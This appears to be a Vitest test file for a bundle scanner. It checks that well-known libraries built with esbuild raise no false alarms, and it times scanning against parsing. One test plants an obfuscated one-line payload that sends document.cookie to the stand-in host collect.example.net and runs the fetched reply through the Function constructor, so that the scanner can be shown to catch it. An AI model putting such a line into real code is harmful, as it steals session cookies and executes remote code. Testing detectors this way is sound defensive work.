import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { parse } from 'acorn'
import { build } from 'esbuild'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { scanScript } from '../src/code/scan-script.ts'
import { scanText } from '../src/code/secret-rules.ts'

/** Libraries as they are published, with the findings that a reviewer has to read for each of them. */
const libraries: Record<string, { entry: string; warnings: string[] }> = {
  'chart.js': {
    entry: `import { Chart, registerables } from 'chart.js'; Chart.register(...registerables); export { Chart }`,
    warnings: [],
  },
  'date-fns': { entry: `export * from 'date-fns'`, warnings: [] },
  dompurify: { entry: `export { default } from 'dompurify'`, warnings: [] },
  marked: { entry: `export * from 'marked'`, warnings: [] },
  zod: { entry: `export * from 'zod'`, warnings: ['code-function-generator', 'code-function-literal'] },
}

let folder = ''
const bundles = new Map<string, string>()

/** Bundles as `plexica build` does it: for the browser, as a module, minified or not. */
async function bundle(name: string, contents: string, minify: boolean): Promise<string> {
  const entry = join(folder, `${name}.js`)
  await writeFile(entry, contents)
  const { outputFiles } = await build({
    entryPoints: [entry],
    bundle: true,
    format: 'esm',
    platform: 'browser',
    minify,
    write: false,
    define: { 'process.env.NODE_ENV': '"production"' },
    nodePaths: [fileURLToPath(new URL('../node_modules', import.meta.url))],
  })
  return outputFiles[0]?.text ?? ''
}

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'plexica-libraries-'))
  for (const [name, { entry }] of Object.entries(libraries)) {
    bundles.set(`${name}.min`, await bundle(name, entry, true))
    bundles.set(name, await bundle(name, entry, false))
  }
}, 60_000)

afterAll(() => rm(folder, { recursive: true }))

describe.each(Object.entries(libraries))('%s', (name, { warnings }) => {
  test.each([`${name}.min`, name])('%s is no error', (key) => {
    const source = bundles.get(key) ?? ''
    expect(source.length).toBeGreaterThan(20_000)
    const { findings, hosts, permissions, imports } = scanScript({ path: 'dist/bundle.js', source, target: 'browser' })
    const codes = (severity: string) =>
      findings.filter((finding) => finding.severity === severity).map(({ code }) => code)
    expect(findings.filter(({ severity }) => severity === 'error')).toEqual([])
    expect(codes('warning').sort()).toEqual(warnings)
    expect(codes('info').length).toBeLessThanOrEqual(2)
    expect({ hosts, permissions, imports }).toEqual({ hosts: [], permissions: [], imports: [] })
    expect(scanText({ path: 'dist/bundle.js', text: source })).toEqual([])
  })
})

/** All of them in one module, as a plugin that uses them all would have them. */
async function everything(): Promise<string> {
  const names = Object.keys(libraries)
  return bundle('everything', names.map((name, index) => `export * as lib${index} from '${name}'`).join('\n'), true)
}

test('one line of evil is found among all of them', async () => {
  const evil =
    ';(()=>{let a=["ht","tps:/","/collect.","example.net/"].join("");fetch(a+btoa(document.cookie)).then(b=>b.text()).then(b=>(()=>{}).constructor(b)())})();'
  const source = `${await everything()}\n${evil}`
  const { findings, hosts } = scanScript({ path: 'dist/bundle.js', source, target: 'browser' })
  const line = source.split('\n').length
  expect(hosts).toEqual(['collect.example.net'])
  expect(findings.filter((finding) => finding.line === line).map(({ code }) => code)).toEqual(
    expect.arrayContaining(['code-cookie', 'code-function-constructor']),
  )
})

/** Parsing is the floor: measured in turn with it, so that neither the machine nor its other work matters. */
test('a scan takes less than four times as long as parsing alone', async () => {
  const source = await everything()
  expect(source.length).toBeGreaterThan(700_000)
  const timed = (work: () => unknown) => {
    const start = performance.now()
    work()
    return performance.now() - start
  }
  const runs = Array.from({ length: 6 }, () => ({
    floor: timed(() => parse(source, { ecmaVersion: 'latest', sourceType: 'module' })),
    scan: timed(() => scanScript({ path: 'dist/bundle.js', source, target: 'browser' })),
  }))
  const best = (key: 'floor' | 'scan') => Math.min(...runs.map((run) => run[key]))
  expect(best('scan') / best('floor')).toBeLessThan(4)
}, 60_000)
